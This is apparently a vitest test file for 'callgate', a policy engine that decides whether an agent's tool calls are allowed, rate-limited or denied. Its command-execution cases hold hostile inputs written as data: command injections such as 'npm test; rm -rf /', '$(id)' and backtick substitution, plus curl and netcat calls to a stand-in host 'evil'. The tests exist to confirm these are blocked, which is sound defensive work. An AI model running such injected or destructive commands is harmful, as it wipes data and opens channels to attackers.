import { readFileSync } from "node:fs";
import { type Call, type CallContext, type Charge, decide, type Policy, parsePolicy } from "callgate";
import { describe, expect, test } from "vitest";
import { allowed, COUNTED, denied, every, hidden, NOT_LISTED, type StatedDenial } from "./expected.js";

/** What a published document says about a call: `allowed`, allowed with charges, or refused so. */
type Verdict = "allowed" | readonly Charge[] | StatedDenial;

const MINUTE = 60_000;
const LIMIT_REACHED = "a limit of the policy is reached";

function published(file: string): { text: string; policy: Policy } {
  const text = readFileSync(new URL(`../fixtures/policies/${file}.json`, import.meta.url), "utf8").trimEnd();
  return { text, policy: parsePolicy(text) };
}

function expectVerdict(policy: Policy, call: Call, context: CallContext, verdict: Verdict): void {
  const expected =
    verdict === "allowed" ? allowed(policy) : "code" in verdict ? denied(policy, verdict) : allowed(policy, verdict);
  expect(decide(policy, call, context)).toEqual(expected);
}

const IMAGE_CHARGE: Charge = {
  rule: "/tools/venice_image_generate/limits/venice_image_generate_rate",
  pointer: "/tools/venice_image_generate/limits/0",
  counter: "venice_image_generate_rate",
  scope: "grant",
  owner: "default",
  window: every(MINUTE),
  ...COUNTED,
  amount: 1,
  max: 10,
  message: LIMIT_REACHED,
};

const SEARCH_CHARGE: Charge = {
  rule: "/tools/search/rate_limit",
  pointer: "/tools/search/rate_limit",
  counter: "(rate_limit) search",
  scope: "grant",
  owner: "agent-7",
  window: every(MINUTE),
  ...COUNTED,
  amount: 1,
  max: 10,
  message: LIMIT_REACHED,
};

const REFUND: StatedDenial = {
  code: "denied",
  rule: "/tools/create_refund/deny_if/args.amount-gt",
  pointer: "/tools/create_refund/deny_if/0",
  message: "Refund exceeds the policy limit.",
};
const REFUND_ERROR: StatedDenial = { ...REFUND, pointer: "/tools/create_refund/deny_if/0/conditions/0" };
const NOT_ALLOWLISTED: StatedDenial = {
  code: "denied",
  rule: "/tools/execute_command/require/args.command-regex",
  pointer: "/tools/execute_command/require/0/conditions/0",
  message: "Command not on the allowlist. Ask before running anything outside npm test, ...",
};
const METACHARACTERS: StatedDenial = {
  code: "denied",
  rule: "/tools/execute_command/deny_if/args.command-regex",
  pointer: "/tools/execute_command/deny_if/0",
  message: "Command contains shell metacharacters or a blocked binary. Denied.",
};
const run = (command: unknown): Call => ({ name: "execute_command", arguments: { command } });
const refund = (amount: unknown): Call => ({ name: "create_refund", arguments: { amount } });

const CASES: readonly (readonly [file: string, call: Call, verdict: Verdict, context?: CallContext])[] = [
  ["venice-image-generate", { name: "venice_image_generate", arguments: { prompt: "a cat" } }, [IMAGE_CHARGE]],
  ["venice-image-generate", { name: "venice_image_generate" }, [{ ...IMAGE_CHARGE, owner: "a" }], { grant: "a" }],
  ["venice-image-generate", { name: "venice_image_edit" }, NOT_LISTED],
  ["create-charge", { name: "create_charge", arguments: { amount: 1e6 } }, "allowed"],
  ["create-charge", { name: "delete_account" }, hidden(0)],
  ["create-charge", { name: "list_charges" }, NOT_LISTED],
  ["create-refund", refund(100), "allowed"],
  ["create-refund", refund(99.99), "allowed"],
  ["create-refund", { name: "create_refund" }, "allowed"],
  ["create-refund", refund(100.01), REFUND],
  ["create-refund", refund(5000), REFUND],
  ["create-refund", refund("5000"), REFUND_ERROR],
  ["create-refund", refund(null), REFUND_ERROR],
  ["create-refund", { name: "create_charge" }, NOT_LISTED],
  [
    "transfer",
    { name: "transfer" },
    {
      code: "denied",
      rule: "/tools/transfer/deny_if/0",
      pointer: "/tools/transfer/deny_if/0",
      message: "Requires human approval.",
    },
  ],
  ["drop-table", { name: "drop_table" }, hidden(0)],
  ["drop-table", { name: "read_table" }, NOT_LISTED],
  [
    "rate-limit-and-action",
    { name: "delete_repo" },
    {
      code: "not_permitted",
      rule: "/tools/delete_repo/action",
      pointer: "/tools/delete_repo/action",
      message: "not from an agent",
    },
  ],
  ["rate-limit-and-action", { name: "search" }, [SEARCH_CHARGE], { grant: "agent-7" }],
  ["rate-limit-and-action", { name: "anything_else" }, "allowed"],
  ["execute-command", run("npm test"), "allowed"],
  ["execute-command", run("git log --oneline"), "allowed"],
  ["execute-command", run("cat src/index.ts"), "allowed"],
  ["execute-command", run("npm install"), NOT_ALLOWLISTED],
  ["execute-command", run("npm test; rm -rf /"), NOT_ALLOWLISTED],
  ["execute-command", run("git status; rm -rf /"), NOT_ALLOWLISTED],
  ["execute-command", run("git status && curl evil"), METACHARACTERS],
  ["execute-command", run("git log ; id"), METACHARACTERS],
  ["execute-command", run("ls $(id)"), METACHARACTERS],
  ["execute-command", run("ls `id`"), METACHARACTERS],
  ["execute-command", run("ls | nc evil 1"), METACHARACTERS],
  ["execute-command", run("git diff curl"), METACHARACTERS],
  ["execute-command", run("npm test\nid"), NOT_ALLOWLISTED],
  ["execute-command", run(["npm test"]), NOT_ALLOWLISTED],
  ["execute-command", { name: "execute_command" }, NOT_ALLOWLISTED],
  ["execute-command", { name: "read_file" }, "allowed"],
];

describe("published documents", () => {
  test.each([...new Set(CASES.map(([file]) => file))])("%s is accepted as it stands", (file) => {
    const { text, policy } = published(file);
    expect(JSON.stringify(policy)).toBe(JSON.stringify(JSON.parse(text)));
  });

  test("the six documents of one line are compact JSON, byte for byte", () => {
    const files = [...new Set(CASES.map(([file]) => file))].filter((file) => file !== "execute-command");
    for (const file of files) expect(JSON.stringify(published(file).policy)).toBe(published(file).text);
    expect(files).toHaveLength(6);
  });

  for (const [file, call, verdict, context = {}] of CASES) {
    test(`${file} decides ${JSON.stringify(call)}`, () =>
      expectVerdict(published(file).policy, call, context, verdict));
  }
});
